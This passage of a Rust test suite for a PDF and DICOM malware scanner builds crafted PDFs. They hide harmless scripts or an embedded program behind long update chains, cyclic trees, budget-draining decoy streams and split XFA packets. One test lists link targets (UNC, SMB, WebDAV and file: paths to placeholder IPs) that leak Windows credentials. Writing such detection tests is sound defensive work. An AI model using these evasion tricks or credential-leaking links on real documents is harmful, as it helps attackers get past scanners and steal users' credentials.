            "xref\n0 7\n0000000000 65535 f \n{}{}{}0000000000 65535 f \n{}{}trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n{update}\n%%EOF\n",
            entry(at[0]),
            entry(at[1]),
            entry(at[2]),
            entry(at[3]),
            entry(at[5])
        )
        .as_bytes(),
    );
    assert!(as_qpdf_reads_it(&out).contains("This program cannot be run in DOS mode"));
    assert_alert(&out, FindingKind::EmbeddedExecutable, "report.txt");
}

/// Review r30-screen (issue 10), of r29-screen2's chain of cross-reference sections: each
/// section of the chain looked through every trailer of the file for its own, so a
/// document of 20,000 one-object updates (2.6 MB, each section's `/Prev` naming the one
/// before) took 21 s to screen (debug, load 17) and 100,000 would take minutes, the
/// inspection's deadline never asked. 40,000 of them, after a script in the first
/// revision (qpdf follows the chain and shows it), are read in a few seconds and the
/// script found; the bound is far below what the scan of every trailer per section took.
#[test]
fn a_long_chain_of_updates_is_followed_in_linear_time() {
    const UPDATES: usize = 40_000;
    let mut pdf = document(&js_catalog("(app.alert\\('chained'\\))"), "", &[]);
    let mut prev = memchr::memmem::rfind(&pdf, b"xref\n0").expect("xref");
    let end = memchr::memmem::rfind(&pdf, b"startxref").expect("startxref");
    pdf.truncate(end);
    for _ in 0..UPDATES {
        let at = pdf.len();
        pdf.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
        let xref = pdf.len();
        pdf.extend_from_slice(
            format!(
                "xref\n2 1\n{at:010} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev {prev} >>\n"
            )
            .as_bytes(),
        );
        prev = xref;
    }
    pdf.extend_from_slice(format!("startxref\n{prev}\n%%EOF\n").as_bytes());
    live(&pdf, &["'chained'"]);
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('chained')");
    // Counted, not timed (task r32-pdf): a binary search per section, some 16 trailers
    // looked at each, where a scan per section looked at every trailer (UPDATES^2).
    let work = inspect_pdf(&pdf).work;
    assert!(work.trailers_compared <= 32 * (UPDATES + 1), "{work:?}");
}

/// Review r30-screen (issue 10), of r29-screen2's reading of every version of `/EF`: each
/// file specification added every version of the stream it names to the attachments,
/// one entry per specification and version, merged only at the end. 3,000 file
/// specifications of one stream defined 3,000 times (a 500 kB PDF) cost 680 MB and 18 s
/// (debug, load 17). Now each stream is taken once, with every version: 5,000 of each are
/// read in seconds, and the program that the last version holds (qpdf shows it) is an
/// alert.
#[test]
fn many_file_specifications_of_a_stream_defined_many_times_cost_each_once() {
    const SPECIFICATIONS: usize = 5000;
    const VERSIONS: usize = 5000;
    let program = std::fs::read("/bin/true").expect("/bin/true");
    let names: Vec<String> = (0..SPECIFICATIONS)
        .map(|i| format!("(f{i}) {} 0 R", 10 + i))
        .collect();
    let mut pdf = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [ {} ] >> >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
        names.join(" ")
    )
    .into_bytes();
    for i in 0..SPECIFICATIONS {
        pdf.extend_from_slice(
            format!(
                "{} 0 obj\n<< /Type /Filespec /F (f{i}) /EF << /F 4 0 R >> >>\nendobj\n",
                10 + i
            )
            .as_bytes(),
        );
    }
    for version in 0..VERSIONS {
        let data = if version + 1 == VERSIONS {
            program.clone()
        } else {
            format!("version {version}\n").into_bytes()
        };
        pdf.extend_from_slice(
            format!("4 0 obj\n<< /Length {} >>\nstream\n", data.len()).as_bytes(),
        );
        pdf.extend_from_slice(&data);
        pdf.extend_from_slice(b"\nendstream\nendobj\n");
    }
    pdf.extend_from_slice(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    let input = Temp::new("many.pdf");
    std::fs::write(&input.0, &pdf).expect("write");
    let shown = Command::new("qpdf")
        .args(["--show-object=4", "--filtered-stream-data"])
        .arg(&input.0)
        .output()
        .expect("qpdf (scripts/setup-test-deps.sh installs it)");
    assert_eq!(shown.stdout, program, "qpdf extracts the program");
    assert_alert(&pdf, FindingKind::EmbeddedExecutable, "ELF");
    // Counted, not timed (task r32-pdf): each version decoded once, however many file
    // specifications name the stream.
    let work = inspect_pdf(&pdf).work;
    assert!(work.streams_decoded <= VERSIONS, "{work:?}");
}

/// Review r30-screen (issue 10), of r29-screen2's reading of every version of an XFA
/// packet: each packet naming an object read every other version of it, however many
/// packets named the same one, and nothing asked the deadline there. An XFA array of
/// 10,000 packets naming one stream defined 10,000 times (a 900 kB PDF qpdf reads) ran
/// past 300 s in `pacsguard scan`; 1,000 of each took 2.6 s. Each object's versions are
/// now read once: 6,000 of each in seconds, and a script in a version other than the one
/// read is still an alert.
#[test]
fn many_xfa_packets_naming_an_object_defined_many_times_read_it_once() {
    const PACKETS: usize = 6000;
    const VERSIONS: usize = 6000;
    let packets: Vec<String> = (0..PACKETS).map(|i| format!("(p{i}) 5 0 R")).collect();
    let mut pdf = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA [ {} ] >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
        packets.join(" ")
    )
    .into_bytes();
    for version in 0..VERSIONS {
        let data = if version == 0 {
            "<template><script>app.alert('oldest')</script></template>\n".to_owned()
        } else {
            format!("<template>{version}</template>\n")
        };
        pdf.extend_from_slice(
            format!(
                "5 0 obj\n<< /Length {} >>\nstream\n{data}\nendstream\nendobj\n",
                data.len()
            )
            .as_bytes(),
        );
    }
    pdf.extend_from_slice(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    live(&pdf, &[&format!("<template>{}</template>", VERSIONS - 1)]);
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('oldest')");
    // Counted, not timed (task r32-pdf): each version decoded once, however many packets
    // name the object (once per naming was PACKETS x VERSIONS).
    let work = inspect_pdf(&pdf).work;
    assert!(work.streams_decoded <= VERSIONS, "{work:?}");
}

/// `pdf` (encrypted, its encryption dictionary object written once) with `versions` more
/// versions of that dictionary appended as updates, each one more key than the first:
/// distinct versions that open with the same (empty) password and the same file key.
fn with_encryption_versions(pdf: &[u8], versions: usize) -> Vec<u8> {
    let text = String::from_utf8_lossy(pdf).into_owned();
    let number_after = |key: &str| -> usize {
        let at = text.rfind(key).expect(key) + key.len();
        let digits: String = text[at..]
            .trim_start()
            .chars()
            .take_while(char::is_ascii_digit)
            .collect();
        digits.parse().expect("a number")
    };
    let encrypt = number_after("/Encrypt ");
    let root = number_after("/Root ");
    let size = number_after("/Size ");
    let mut prev = number_after("startxref");
    let header = format!("\n{encrypt} 0 obj");
    let start = text.find(&header).expect("the /Encrypt object") + header.len();
    let end = start + text[start..].find("endobj").expect("endobj");
    let dict = text[start..end].trim();
    let dict = dict.strip_suffix(">>").expect("a dictionary");
    let id_at = text.rfind("/ID").expect("/ID");
    let id = &text[id_at..id_at + text[id_at..].find(']').expect("]") + 1];
    let mut out = pdf.to_vec();
    for version in 0..versions {
        let at = out.len();
        out.extend_from_slice(
            format!("{encrypt} 0 obj\n{dict} /Version{version} {version} >>\nendobj\n").as_bytes(),
        );
        let xref = out.len();
        out.extend_from_slice(
            format!(
                "xref\n0 1\n0000000000 65535 f \n{encrypt} 1\n{at:010} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Encrypt {encrypt} 0 R /Prev {prev} {id} >>\nstartxref\n{xref}\n%%EOF\n"
            )
            .as_bytes(),
        );
        prev = xref;
    }
    out
}

/// Review r30-screen2: the attachments of each other reading of an encrypted document
/// (here the other versions of its encryption dictionary, which decrypt to the same
/// files) were compared with every attachment already kept, byte for byte: 4,000 files
/// of 15 kB alike but for their last bytes, under three more versions (a 1.9 MB PDF qpdf
/// reads), cost some 10^11 byte comparisons, the deadline never asked (79 s in
/// `pacsguard scan`, debug, past its 60 s). Now a lookup by digest: each attachment kept
/// once, each read once per reading to match it (the work the report counts; task
/// r32-pdf replaced a 20 s bound on the clock, which a loaded machine can break and a
/// fast one hides a square behind, by these counts).
#[test]
fn attachments_read_again_by_other_readings_are_found_by_digest() {
    const FILES: usize = 4000;
    const SIZE: usize = 15_000;
    let mut names = Vec::new();
    let mut objects = vec![
        obj("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>"),
        obj("<< /Type /Pages /Kids [] /Count 0 >>"),
        Vec::new(), // the names tree, once the files are numbered
    ];
    for i in 0..FILES {
        let mut data = vec![b'A'; SIZE];
        data.extend_from_slice(format!("{i:06}").as_bytes());
        let spec = objects.len() + 1;
        objects.push(obj(&format!(
            "<< /Type /Filespec /F (f{i}.txt) /UF (f{i}.txt) /EF << /F {} 0 R >> >>",
            spec + 1
        )));
        objects.push(stream(
            "/Type /EmbeddedFile /Filter /FlateDecode",
            &flate(&data),
        ));
        names.push(format!("(f{i:06}) {spec} 0 R"));
    }
    objects[2] = obj(&format!("<< /Names [{}] >>", names.join(" ")));
    let plain = build(&objects);
    let encrypted = qpdf(
        &plain,
        &[],
        &[
            "--object-streams=disable",
            "--encrypt",
            "",
            "owner",
            "256",
            "--",
        ],
    )
    .expect("encrypted");
    let pdf = with_encryption_versions(&encrypted, 3);
    let file = Temp::new("versions.pdf");
    std::fs::write(&file.0, &pdf).expect("write");
    let listed = Command::new("qpdf")
        .arg("--list-attachments")
        .arg(&file.0)
        .output()
        .expect("qpdf");
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains(&format!("f{:06}", FILES - 1)),
        "qpdf reads it"
    );
    let report = inspect_pdf(&pdf);
    assert_eq!(report.attachments.len(), FILES, "each file kept once");
    // Counted, not timed: four readings (the first and three more), each decoding every
    // file once and reading it once to match it with those kept. Compared with each file
    // kept, the bytes read grew as FILES squared (some 10^11).
    let work = report.work;
    let file = SIZE + 6;
    assert_eq!(work.other_readings, 3, "{work:?}");
    assert!(work.streams_decoded <= 4 * (FILES + 4), "{work:?}");
    assert!(
        work.attachment_bytes_matched <= 4 * FILES * file,
        "{work:?}"
    );
}

/// Task r32-pdf (issue 10): XFA arrays written directly in a dictionary were each read
/// on their own, a stream decoded again for every array naming it (the repeats were
/// merged only within one array, or for an array given by reference), so
/// MAX_PDF_STREAMS + 1 dictionaries each with `/XFA [(p) 3 0 R]` spent the stream budget
/// on object 3 and the form's script, in a packet after them, was a budget warning
/// without the alert. Each object is decoded once, whichever arrays name it.
#[test]
fn xfa_arrays_naming_one_stream_decode_it_once_and_hide_no_later_script() {
    use pacsguard_dicom::MAX_PDF_STREAMS;
    let repeats = MAX_PDF_STREAMS + 1;
    let form = 4 + repeats;
    let mut objects = vec![
        obj(&format!(
            "<< /Type /Catalog /Pages 2 0 R /AcroForm {form} 0 R >>"
        )),
        obj("<< /Type /Pages /Kids [] /Count 0 >>"),
        stream("", b"<config>nothing runs</config>"),
    ];
    for i in 0..repeats {
        objects.push(obj(&format!("<< /XFA [(p{i}) 3 0 R] >>")));
    }
    objects.push(obj(&format!(
        "<< /Fields [] /XFA [(config) 3 0 R (template) {} 0 R] >>",
        form + 1
    )));
    objects.push(stream(
        "/Filter /FlateDecode",
        &flate(b"<template><script>app.alert('after the repeats')</script></template>"),
    ));
    let pdf = build(&objects);
    live(&pdf, &["app.alert('after the repeats')"]);
    assert_alert(
        &pdf,
        FindingKind::ActiveContent,
        "app.alert('after the repeats')",
    );
    assert!(!warned(&pdf, "streams decoded"));
    let work = inspect_pdf(&pdf).work;
    assert_eq!(work.streams_decoded, 2, "{work:?}");
}

/// A names tree (`/Names /JavaScript`) `levels` deep through `/Kids`, its one leaf naming a
/// JavaScript action; `cycle` makes the deepest node's `/Kids` name the root of the tree
/// again as well as the leaf.
fn javascript_names_tree(levels: usize, cycle: bool) -> Vec<u8> {
    let root = 4;
    let mut objects = vec![
        obj(&format!(
            "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript {root} 0 R >> >>"
        )),
        obj("<< /Type /Pages /Kids [] /Count 0 >>"),
        obj("<< /S /JavaScript /JS (app.alert\\('in the tree'\\)) >>"),
    ];
    for level in 0..levels {
        let next = root + level + 1;
        let kids = if level + 1 < levels {
            format!("{next} 0 R")
        } else if cycle {
            format!("{root} 0 R {next} 0 R")
        } else {
            format!("{next} 0 R")
        };
        objects.push(obj(&format!("<< /Kids [{kids}] >>")));
    }
    objects.push(obj("<< /Limits [(a) (z)] /Names [(m) 3 0 R] >>"));
    build(&objects)
}

/// Task r32-pdf (issue 10): a script named by a names tree is found whatever the depth of
/// the tree, and a tree whose `/Kids` loop back hides nothing and costs no more: every
/// object is read as it is in the file, none reached by following `/Kids`, so neither the
/// depth nor a cycle can stop the search (or the stack). qpdf reads each.
#[test]
fn scripts_in_names_trees_are_found_at_any_depth_and_through_cycles() {
    for (levels, cycle) in [
        (1, false),
        (3, false),
        (10_000, false),
        (3, true),
        (500, true),
    ] {
        let pdf = javascript_names_tree(levels, cycle);
        if !cycle {
            live(&pdf, &["'in the tree'"]);
        }
        assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('in the tree')");
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            !findings.iter().any(|f| f.kind == FindingKind::NotInspected),
            "{levels} levels, cycle {cycle}: {findings:#?}"
        );
    }
}

/// Task r32-pdf (issue 10): the page tree as the names tree: a page's script found under
/// `/Kids` thousands of levels deep, and with a `/Kids` cycle (a page tree node naming
/// its own parent), with nothing left unread and no stack overflow.
#[test]
fn page_scripts_are_found_in_deep_and_cyclic_page_trees() {
    for (levels, cycle) in [(5_000, false), (4, true)] {
        let mut objects = vec![obj("<< /Type /Catalog /Pages 2 0 R >>")];
        for level in 0..levels {
            let (me, next) = (level + 2, level + 3);
            let kids = if cycle && level + 1 == levels {
                format!("{next} 0 R 2 0 R")
            } else {
                format!("{next} 0 R")
            };
            let parent = if level == 0 {
                String::new()
            } else {
                format!("/Parent {} 0 R", me - 1)
            };
            objects.push(obj(&format!(
                "<< /Type /Pages {parent} /Kids [{kids}] /Count 1 >>"
            )));
        }
        objects.push(obj(&format!(
            "<< /Type /Page /Parent {} 0 R /MediaBox [0 0 10 10] /AA << /O << /S /JavaScript /JS (app.alert\\('page'\\)) >> >> >>",
            levels + 1
        )));
        let pdf = build(&objects);
        assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('page')");
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            !findings.iter().any(|f| f.kind == FindingKind::NotInspected),
            "{levels} levels, cycle {cycle}: {findings:#?}"
        );
    }
}

/// Task r32-pdf (issue 10): XFA forms were read in file order, so MAX_PDF_STREAMS forms
/// of other objects, each naming a benign packet of its own, spent the stream budget
/// before the catalog's form (the one a reader runs) was decoded: its script was a
/// warning without the alert. The catalog's form is read first; the others still reach
/// the limit, which is said.
#[test]
fn the_form_a_reader_runs_is_read_before_the_budget_goes_on_others() {
    use pacsguard_dicom::MAX_PDF_STREAMS;
    let others = MAX_PDF_STREAMS;
    let form = 3 + 2 * others;
    let mut objects = vec![
        obj(&format!(
            "<< /Type /Catalog /Pages 2 0 R /AcroForm {form} 0 R >>"
        )),
        obj("<< /Type /Pages /Kids [] /Count 0 >>"),
    ];
    for i in 0..others {
        objects.push(obj(&format!("<< /XFA [(p) {} 0 R] >>", 4 + 2 * i)));
        objects.push(stream("", format!("<config>{i}</config>").as_bytes()));
    }
    objects.push(obj(&format!(
        "<< /Fields [] /XFA [(template) {} 0 R] >>",
        form + 1
    )));
    objects.push(stream(
        "",
        b"<template><script>app.alert('the form run')</script></template>",
    ));
    let pdf = build(&objects);
    live(&pdf, &["app.alert('the form run')"]);
    assert_alert(
        &pdf,
        FindingKind::ActiveContent,
        "app.alert('the form run')",
    );
    assert!(warned(&pdf, "streams decoded"));
}

/// The catalog's XFA form (the one a reader runs), its script split across two packets,
/// and one other `/XFA` naming a Flate stream `decoy` (one that inflates to the whole
/// decoded-bytes budget), written after the form or before it.
fn form_and_decoy(decoy: &[u8], decoy_first: bool) -> Vec<u8> {
    // Objects are numbered by their place: the form's three from `at`, the decoy's two
    // from `other`.
    let (at, other) = if decoy_first { (5, 3) } else { (3, 6) };
    let form = vec![
        obj(&format!(
            "<< /Fields [] /XFA [(template) {} 0 R (datasets) {} 0 R] >>",
            at + 1,
            at + 2
        )),
        stream(
            "",
            b"<xdp:xdp><template><subform><event activity=\"initialize\"><scr",
        ),
        stream(
            "",
            b"ipt contentType=\"application/x-javascript\">app.alert('split')</script></event></subform></template></xdp:xdp>",
        ),
    ];
    let decoy = vec![
        obj(&format!("<< /XFA {} 0 R >>", other + 1)),
        stream("/Filter /FlateDecode", decoy),
    ];
    let mut objects = vec![
        obj(&format!(
            "<< /Type /Catalog /Pages 2 0 R /AcroForm {at} 0 R >>"
        )),
        obj("<< /Type /Pages /Kids [] /Count 0 >>"),
    ];
    if decoy_first {
        objects.extend(decoy.into_iter().chain(form));
    } else {
        objects.extend(form.into_iter().chain(decoy));
    }
    build(&objects)
}

/// Review of r32-pdf (issue 10): every form's packets were decoded before any form's were
/// put together, and putting them together was charged to the same decoded-bytes budget,
/// so one other `/XFA` naming a stream that inflates to 64 MiB left the catalog's form,
/// its script split across two packets, unread: a budget warning without the alert. The
/// form a reader runs is finished whole (decoded, searched, put together) before any
/// budget goes on other forms; the decoy still reaches the limit, which is said.
#[test]
fn a_decoy_form_spending_the_decoded_bytes_hides_no_script_of_the_form_run() {
    let decoy = flate(&vec![0; MAX_PDF_INFLATED_BYTES]);
    for decoy_first in [false, true] {
        let pdf = form_and_decoy(&decoy, decoy_first);
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            findings.iter().any(|f| f.severity == Severity::Alert
                && f.kind == FindingKind::ActiveContent
                && f.detail.contains("app.alert('split')")),
            "decoy first {decoy_first}: {findings:#?}"
        );
        assert!(
            findings.iter().any(|f| f.kind == FindingKind::NotInspected
                && f.severity == Severity::Warning
                && f.detail.contains("bytes decoded by stream filters")),
            "decoy first {decoy_first}: {findings:#?}"
        );
    }
    // A reader sees the script: qpdf's decoding (the decoy kept small here, its size is
    // not what qpdf is asked about).
    live(
        &form_and_decoy(&flate(b"<config/>"), false),
        &[
            "<scr",
            "ipt contentType=\"application/x-javascript\">app.alert('split')",
        ],
    );
}

/// Review of r32-pdf: putting a form's packets together charged every copy of each packet
/// to the decoded-bytes budget, which decoding them had charged already, so a real form
/// of two 20 MiB packets (40 MiB decoded, 80 MiB charged) reached the limit and its
/// script, split across them, was a warning without the alert. A packet's first copy into
/// a form is paid for by its decoding; only copies beyond it (a packet repeated in an
/// array, or named by another form) are charged.
#[test]
fn a_large_form_put_together_is_charged_once_for_its_packets() {
    let packet = MAX_PDF_INFLATED_BYTES * 5 / 16;
    let mut template = b"<xdp:xdp><template>".to_vec();
    template.resize(packet, b' ');
    template.extend_from_slice(b"<scr");
    let mut datasets = b"ipt>app.alert('large')</script></template>".to_vec();
    datasets.resize(packet, b' ');
    datasets.extend_from_slice(b"</xdp:xdp>");
    let form = |array: &str| {
        document(
            "/AcroForm << /Fields [] /XFA 4 0 R >>",
            "",
            &[
                obj(array),
                stream("/Filter /FlateDecode", &flate(&template)),
                stream("/Filter /FlateDecode", &flate(&datasets)),
            ],
        )
    };
    let pdf = form("[(template) 5 0 R (datasets) 6 0 R]");
    let findings = inspect_pdf(&pdf).findings;
    assert!(
        findings
            .iter()
            .any(|f| f.severity == Severity::Alert && f.detail.contains("app.alert('large')")),
        "{findings:#?}"
    );
    assert!(
        !findings.iter().any(|f| f.kind == FindingKind::NotInspected),
        "{findings:#?}"
    );
    // Copies beyond the first are still charged: the same packets named twice over make
    // an XML past the budget, which is said.
    let repeated = form("[(a) 5 0 R (b) 6 0 R (a) 5 0 R (b) 6 0 R]");
    assert!(warned(&repeated, "bytes decoded by stream filters"));
}

// ---- links: said once per document, a credential leak on its own ----------------------------

/// A one-page report whose page carries a link annotation per URI in `uris` (each a PDF
/// literal string's content), rewritten by qpdf into object streams as a real writer
/// packs a report: what is screened is qpdf's output, which qpdf reads back.
fn report_with_links(uris: &[&str]) -> Vec<u8> {
    let annots: Vec<String> = (0..uris.len()).map(|i| format!("{} 0 R", 4 + i)).collect();
    let links: Vec<Vec<u8>> = uris
        .iter()
        .map(|uri| {
            obj(&format!(
                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Border [0 0 0] /A << /S /URI /URI ({uri}) >> >>"
            ))
        })
        .collect();
    let pdf = document("", &format!("/Annots [{}]", annots.join(" ")), &links);
    let packed = qpdf(&pdf, &[], &["--object-streams=generate"]).expect("qpdf output");
    let seen = as_qpdf_reads_it(&packed);
    assert_eq!(
        seen.matches("/S /URI").count(),
        uris.len(),
        "qpdf reads every link"
    );
    packed
}

fn uri_findings(findings: &[PdfFinding]) -> Vec<&PdfFinding> {
    findings
        .iter()
        .filter(|f| f.detail.contains("URI action"))
        .collect()
}

/// Task r33-screen (alarm fatigue): a report with 40 hyperlinks gave a URI warning per
/// link (MAX_PDF_FINDINGS of them, the last "24 more PDF finding(s) not listed"), each
/// `check` and `watch` arrival and gateway record a page of warnings for one ordinary
/// report. The links are one warning per document, saying how many and naming the first
/// URI_TARGETS_NAMED targets.
#[test]
fn a_report_with_many_links_is_one_warning() {
    use pacsguard_dicom::URI_TARGETS_NAMED;
    let targets: Vec<String> = (0..40)
        .map(|i| format!("https://example.org/guide/{}", i % 30))
        .collect();
    let uris: Vec<&str> = targets.iter().map(String::as_str).collect();
    let pdf = report_with_links(&uris);
    let findings = inspect_pdf(&pdf).findings;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let links = &findings[0];
    assert_eq!(links.kind, FindingKind::ActiveContent);
    assert_eq!(links.severity, Severity::Warning);
    assert!(
        links.detail.contains("40 URI actions") && links.detail.contains("30 distinct targets"),
        "{links:#?}"
    );
    for target in &targets[..URI_TARGETS_NAMED] {
        assert!(
            links.detail.contains(&format!("\"{target}\"")),
            "{links:#?}"
        );
    }
    assert!(
        !links.detail.contains(&targets[URI_TARGETS_NAMED]),
        "{links:#?}"
    );

    // In DICOM, as scan, check, watch and the gateway see it: one observation.
    let dicom = pacsguard_testkit::DicomBuilder::encapsulated_pdf("1.2.3.7", &pdf).build();
    let inspection = pacsguard_dicom::inspect(&dicom);
    let warnings: Vec<_> = inspection
        .observations
        .iter()
        .filter(|o| o.severity > Severity::Info)
        .collect();
    assert_eq!(warnings.len(), 1, "{:#?}", inspection.observations);
    assert!(
        warnings[0].detail.contains("40 URI actions"),
        "{warnings:#?}"
    );

    // One link is said as it was.
    let one = inspect_pdf(&report_with_links(&["https://example.org/"])).findings;
    assert_eq!(uri_findings(&one).len(), 1, "{one:#?}");
    assert!(
        one[0]
            .detail
            .contains("URI action (\"https://example.org/\")"),
        "{one:#?}"
    );
}

/// A link whose target is a file share (a UNC path, `file:` to another host, an SMB or
/// WebDAV form) sends the user's Windows credentials to that host when clicked, as a
/// GoToR to one does: each is an alert of its own, never folded into the links' warning,
/// however many ordinary links surround it.
#[test]
fn a_link_to_a_file_share_among_many_is_its_own_alert() {
    let leaks = [
        "\\\\\\\\198.51.100.7\\\\share\\\\x.pdf",
        "file://198.51.100.8/share/x.pdf",
        "file:////198.51.100.9/share/x.pdf",
        "smb://198.51.100.10/share",
        "\\\\\\\\198.51.100.11@SSL\\\\DavWWWRoot\\\\x",
    ];
    let ordinary: Vec<String> = (0..30)
        .map(|i| format!("https://example.org/{i}"))
        .collect();
    let mut uris: Vec<&str> = ordinary.iter().map(String::as_str).collect();
    uris.splice(10..10, leaks);
    uris.push("file:///C:/reports/local.pdf");
    let findings = inspect_pdf(&report_with_links(&uris)).findings;
    for host in [
        "198.51.100.7",
        "198.51.100.8",
        "198.51.100.9",
        "198.51.100.10",
        "198.51.100.11",
    ] {
        let own: Vec<_> = findings
            .iter()
            .filter(|f| f.detail.contains(host))
            .collect();
        assert_eq!(own.len(), 1, "{host}: {findings:#?}");
        assert_eq!(own[0].severity, Severity::Alert, "{host}: {own:#?}");
        assert!(own[0].detail.contains("credentials"), "{own:#?}");
    }
    let folded: Vec<_> = findings
        .iter()
        .filter(|f| f.severity == Severity::Warning)
        .collect();
    // A link to a file on the reader's own disk is no web link (review rv33-screen:
    // `file:///C:/Windows/System32/cmd.exe` starts a program): its own warning.
    assert_eq!(folded.len(), 2, "{findings:#?}");
    for words in ["30 URI actions", "file:///C:/reports/local.pdf"] {
        let said: Vec<_> = folded.iter().filter(|f| f.detail.contains(words)).collect();
        assert_eq!(said.len(), 1, "{words}: {folded:#?}");
    }
    assert_eq!(findings.len(), 7, "{findings:#?}");
}

/// Task r33-screen: a warning per object stream that does not decode said the same thing
/// again for each (a damaged report of 400 objects: four warnings, MAX_PDF_FINDINGS with
/// 1,600). They are one warning, counting the streams and the objects not inspected and
/// naming where the first streams are.
#[test]
fn object_streams_that_do_not_decode_are_one_warning() {
    let many: Vec<Vec<u8>> = (0..400).map(|i| obj(&format!("<< /N {i} >>"))).collect();
    let named: Vec<String> = (0..400).map(|i| format!("{} 0 R", 4 + i)).collect();
    let plain = document(&format!("/Extra [{}]", named.join(" ")), "", &many);
    let packed = qpdf(
        &plain,
        &[],
        &["--object-streams=generate", "--compress-streams=y"],
    )
    .expect("qpdf output");
    let mut broken = packed.clone();
    let mut streams = 0;
    for objstm in memchr::memmem::find_iter(&packed, b"/ObjStm") {
        let data = objstm
            + memchr::memmem::find(&packed[objstm..], b"stream\n").expect("its data")
            + b"stream\n".len();
        broken[data..data + 2].copy_from_slice(b"\0\0"); // no zlib header
        streams += 1;
    }
    assert!(streams >= 4, "qpdf wrote {streams} object streams");
    let checked = Temp::new("broken.pdf");
    std::fs::write(&checked.0, &broken).expect("write");
    let qpdf_check = Command::new("qpdf")
        .arg("--check")
        .arg(&checked.0)
        .output()
        .expect("qpdf");
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&qpdf_check.stdout),
        String::from_utf8_lossy(&qpdf_check.stderr)
    );
    assert!(said.contains("error decoding stream data"), "{said}");
    let findings = inspect_pdf(&broken).findings;
    let undecoded: Vec<_> = findings
        .iter()
        .filter(|f| f.kind == FindingKind::NotInspected && f.detail.contains("object stream"))
        .collect();
    assert_eq!(undecoded.len(), 1, "{findings:#?}");
    assert_eq!(undecoded[0].severity, Severity::Warning);
    assert!(
        undecoded[0].detail.contains(&format!(
            "{streams} PDF object streams could not be decoded"
        )),
        "{undecoded:#?}"
    );
}

/// An object stream of `objects` (number, body), its data `padding` bytes longer after
/// them, Flate-encoded.
fn object_stream(objects: &[(u32, &str)], padding: usize) -> Vec<u8> {
    let mut header = String::new();
    let mut bodies = String::new();
    for (num, body) in objects {
        header.push_str(&format!("{num} {} ", bodies.len()));
        bodies.push_str(body);
        bodies.push('\n');
    }
    let mut data = format!("{header}{bodies}").into_bytes();
    data.resize(data.len() + padding, b' ');
    stream(
        &format!(
            "/Type /ObjStm /N {} /First {} /Filter /FlateDecode",
            objects.len(),
            header.len()
        ),
        &flate(&data),
    )
}

/// A document whose catalog (1), pages (2) and document script (5) are in object stream
/// 4, after object stream 3, which holds object 9, named by no other object, padded with
/// `decoy` bytes; both named by the cross-reference stream (6), as a writer packs them.
/// With `script_apart`, the script is in object stream 7 instead, after the decoy in the
/// file, and the catalog names object 9 (`/Names`) before it.
fn objects_behind_a_decoy_stream(decoy: usize, script_apart: bool) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut at = [0usize; 8];
    let script = "<< /S /JavaScript /JS (app.alert\\('behind the decoy'\\)) >>";
    let decoy = object_stream(&[(9, "<< /Decoy true >>")], decoy);
    let catalog = if script_apart {
        "<< /Type /Catalog /Names 9 0 R /Pages 2 0 R /OpenAction 5 0 R >>"
    } else {
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    };
    let mut real = vec![(1, catalog), (2, "<< /Type /Pages /Kids [] /Count 0 >>")];
    let mut objects = vec![(4, object_stream(&real, 0)), (3, decoy)];
    if script_apart {
        objects.push((7, object_stream(&[(5, script)], 0)));
    } else {
        real.push((5, script));
        objects[0] = (4, object_stream(&real, 0));
    }
    // Object stream 4 is written second, after the decoy.
    objects.swap(0, 1);
    for (num, body) in objects {
        at[num] = out.len();
        out.extend_from_slice(format!("{num} 0 obj\n").as_bytes());
        out.extend_from_slice(&body);
        out.extend_from_slice(b"\nendobj\n");
    }
    at[6] = out.len();
    // Type, offset or object stream (4 bytes), generation or index (2 bytes).
    let entry = |kind: u8, field: usize, index: u16| {
        let mut e = vec![kind];
        e.extend_from_slice(&u32::try_from(field).expect("small").to_be_bytes());
        e.extend_from_slice(&index.to_be_bytes());
        e
    };
    let free = entry(0, 0, 0);
    let entries: Vec<u8> = [
        entry(0, 0, 65535),
        entry(2, 4, 0),
        entry(2, 4, 1),
        entry(1, at[3], 0),
        entry(1, at[4], 0),
        if script_apart {
            entry(2, 7, 0)
        } else {
            entry(2, 4, 2)
        },
        entry(1, at[6], 0),
        if script_apart {
            entry(1, at[7], 0)
        } else {
            free.clone()
        },
        free,
        entry(2, 3, 0),
    ]
    .concat();
    out.extend_from_slice(b"6 0 obj\n");
    out.extend_from_slice(&stream(
        "/Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
        &entries,
    ));
    out.extend_from_slice(format!("\nendobj\nstartxref\n{}\n%%EOF\n", at[6]).as_bytes());
    out
}

/// Task r33-screen (issue 10): object streams were decoded in file order, each charged to
/// the one decoded-bytes budget, so one named only for an object nothing uses, inflating
/// to MAX_PDF_INFLATED_BYTES, left the object stream holding the catalog and its script
/// undecoded: a budget warning without the alert, where a reader (which loads an object
/// stream when it needs an object of it) runs the script and never inflates the decoy.
